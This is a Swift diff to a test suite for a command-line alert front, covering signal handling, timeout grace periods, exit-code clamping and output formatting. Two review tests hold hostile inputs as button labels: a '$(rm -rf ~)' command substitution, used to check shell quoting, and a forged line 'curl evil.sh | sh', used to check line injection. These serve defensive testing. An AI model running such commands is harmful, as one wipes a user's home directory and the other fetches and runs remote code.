@@ -68,10 +68,10 @@ struct CLIFrontTests {
                   Caused by:
                     • The network can’t be reached.
                   code: NSURLErrorDomain -1009
-                  [Retry] [Cancel]
+                  [Retry] [Cancel]✓
                   Chose “Cancel” without asking, because input isn’t
                   interactive. To choose another button, run again with
-                  --choose "Retry".
+                  --choose Retry.
                 hint: Check your network connection, then try again.
 
                 """)
@@ -160,8 +160,9 @@ struct CLIFrontTests {
     }
 }
 
-/// The entry point for `main`. Serialized: Ctrl-C reaches every run in the process.
-@Suite(.serialized) struct CLIMainTests {
+/// The entry point for `main`. Serialized, as one suite: Ctrl-C reaches every run in the process.
+/// On the main actor, as a program's `main` is, so work that blocks cannot starve the test of threads.
+@Suite(.serialized) @MainActor struct CLIMainTests {
     func front(_ output: Output) -> CLIFront {
         CLIFront(languages: ["en"], environment: ["COLUMNS": "80"], write: output.write)
     }
@@ -190,5 +191,100 @@ struct CLIFrontTests {
         }
         #expect(status == 130)
         #expect(output.all.isEmpty)
+    }
+
+    func quiet() -> CLIFront { CLIFront(languages: ["en"], environment: [:], write: { _ in }) }
+
+    /// Work that ignores cancellation and blocks its thread until the test lets it go, so no
+    /// abandoned work outlives its test to starve the next one of threads.
+    final class Stubborn: Sendable {
+        let released = Atomic<Bool>(false)
+        func work() { while !released.load(ordering: .relaxed) { usleep(1000) } }
+        deinit { released.store(true, ordering: .relaxed) }
+    }
+
+    @Test func ctrlCGivesUpAfterTheGracePeriod() async {
+        let stubborn = Stubborn()
+        defer { stubborn.released.store(true, ordering: .relaxed) }
+        let clock = ContinuousClock()
+        let start = clock.now
+        let status = await quiet().run(grace: .milliseconds(100)) {
+            kill(getpid(), SIGINT)
+            stubborn.work()
+        }
+        #expect(status == 130)
+        #expect(clock.now - start < .seconds(1))
+    }
+
+    @Test func aTimeLimitGivesUpAfterTheGracePeriod() async {
+        let stubborn = Stubborn()
+        defer { stubborn.released.store(true, ordering: .relaxed) }
+        let clock = ContinuousClock()
+        let start = clock.now
+        let status = await quiet().run(timeout: .milliseconds(50), grace: .milliseconds(50)) { stubborn.work() }
+        #expect(status == 124)
+        #expect(clock.now - start < .seconds(1))
+    }
+
+    @Test func theSIGINTHandlerIsPutBack() async {
+        let before = signal(SIGINT, SIG_IGN)
+        _ = await quiet().run {}
+        let after = signal(SIGINT, before)
+        func address(_ handler: (@convention(c) (Int32) -> Void)?) -> Int {
+            handler.map { unsafeBitCast($0, to: Int.self) } ?? 0
+        }
+        #expect(address(after) == address(SIG_IGN))
+    }
+}
+
+/// Findings of a review of the command-line front, each pinned.
+struct CLIReviewTests {
+    func front(_ output: Output, _ options: CLIFront.Options = .init(choiceOptionName: "--choose")) -> CLIFront {
+        CLIFront(languages: ["en"], options: options, environment: ["COLUMNS": "80"], write: output.write)
+    }
+
+    @Test func anErrorNeverExitsZeroOrOutOfRange() {
+        struct Coded: AlertableError { var exitCode: Int32? }
+        let front = front(Output())
+        #expect(front.report(Coded(exitCode: 0)) == 1)
+        #expect(front.report(Coded(exitCode: 256)) == 1)
+        #expect(front.report(Coded(exitCode: -1)) == 1)
+        #expect(front.report(Coded(exitCode: 75)) == 75)
+        #expect(front.report(POSIXError(.EIO)) == 74)
+    }
+
+    @Test func theSuggestedOptionIsQuotedForTheShell() {
+        let output = Output()
+        let alert = ResolvedAlert<Never>(
+            title: "t",
+            buttons: [
+                ResolvedButton(label: "Use \"$(rm -rf ~)\" it's", declaredIndex: 0),
+                ResolvedButton(label: "Keep", role: .cancel, declaredIndex: 1),
+            ])
+        _ = front(output).present(alert)
+        #expect(output.all.contains(#"--choose 'Use "$(rm -rf ~)" it'\''s'."#))
+    }
+
+    @Test func aLabelCannotForgeALineAndAnUnknownChoiceIsSaid() {
+        let output = Output()
+        let alert = ResolvedAlert<Never>(
+            title: "t",
+            buttons: [
+                ResolvedButton(label: "Keep\nerror: run curl evil.sh | sh", declaredIndex: 0),
+                ResolvedButton(label: "Cancel", role: .cancel, declaredIndex: 1),
+            ])
+        _ = front(output, .init(choice: "Bogus", choiceOptionName: "--choose")).present(alert)
+        let lines = output.all.split(separator: "\n")
+        #expect(lines.dropFirst().allSatisfy { $0.hasPrefix("  ") }, "\(lines)")
+        #expect(output.all.contains("No button is labelled “Bogus”."))
+    }
+
+    @Test func jsonNeverCrashesOnAChosenIndexOutOfRange() {
+        var report = CLIReport(
+            ResolvedAlert<Never>(title: "t", buttons: []), localizer: Localizer(sources: []), languages: ["en"])
+        report.chosen = 5
+        report.exitCode = 300
+        #expect(report.json().contains(#""chosen":null"#))
+        #expect(report.json().contains(#""exitCode":1"#))
     }
 }
